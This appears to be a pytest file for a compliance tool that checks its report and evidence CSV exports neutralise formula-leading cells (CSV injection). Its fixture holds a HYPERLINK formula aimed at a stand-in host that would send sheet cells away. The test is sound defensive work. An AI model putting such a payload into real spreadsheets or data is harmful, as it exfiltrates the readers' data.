"""The CSVs of `report` and `evidence` open in a spreadsheet: no cell may run as a formula.

Counsel and the compliance officer open these files in Excel or LibreOffice, which run a
cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula (CSV injection: a campaign
id ``=HYPERLINK(...)`` becomes a link that sends the sheet's cells away; ``-spring`` an
error in place of the campaign). The record holds what the configuration named; the
CSV cell is written with a leading ``'`` so the spreadsheet shows it as text.
"""

from __future__ import annotations

import csv
import io

import orjson

from bench.synthetic_records import KEY, key_id, number_hash
from tests.log_files import cli, config

NUMBER = "8015550123"
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _log(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    path = config(tmp_path, data)
    record = {"schema": 2, "event": "decision", "logged_at": "2026-12-07T17:00:00.002Z",
              "node": "@node", "decision_id": "01a23e7a-fbf2-7ba3-93ae-75792444eda8",
              "at": "2026-12-07T17:00:00.000Z", "front": "http", "verdict": "BLOCK",
              "rule": "-house:1", "reason": "+Blocked by -house:1.",
              "campaign": '=HYPERLINK("http://x.example/?"&A1,"open")',
              "solicitor": "-acme", "mode": "manual",
              "number_hash": number_hash("+18015550123", KEY), "number_last4": "0123",
              "key_id": key_id(KEY), "zones": [], "packs": [], "lists": {},
              "latency_us": 5}
    (data / "compliance.jsonl").write_bytes(orjson.dumps(record) + b"\n")
    return path


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_report_csv_cells_never_start_a_formula(tmp_path):
    path = _log(tmp_path)
    result = cli("report", "--csv", config_path=path)
    assert result.returncode == 0, result.stderr
    rows = [r for r in _cells(result.stdout) if r["count"] != "0"]
    assert rows, result.stdout
    for row in rows:
        assert not any(v.startswith(_FORMULA) for v in row.values()), row
    assert rows[0]["campaign"] == """'=HYPERLINK("http://x.example/?"&A1,"open")"""
    assert rows[0]["rule"] == "'-house:1"


def test_evidence_csv_cells_never_start_a_formula(tmp_path):
    path = _log(tmp_path)
    result = cli("evidence", NUMBER, "--format", "csv", config_path=path)
    assert result.returncode == 0, result.stderr
    rows = [r for r in _cells(result.stdout) if r["event"] == "decision"]
    assert len(rows) == 1, result.stdout
    for row in rows:
        assert not any(v.startswith(_FORMULA) for v in row.values()), row
    row = rows[0]
    assert row["campaign"].startswith("'=HYPERLINK(")
    assert (row["node"], row["solicitor"], row["reason"]) == (
        "'@node", "'-acme", "'+Blocked by -house:1.")
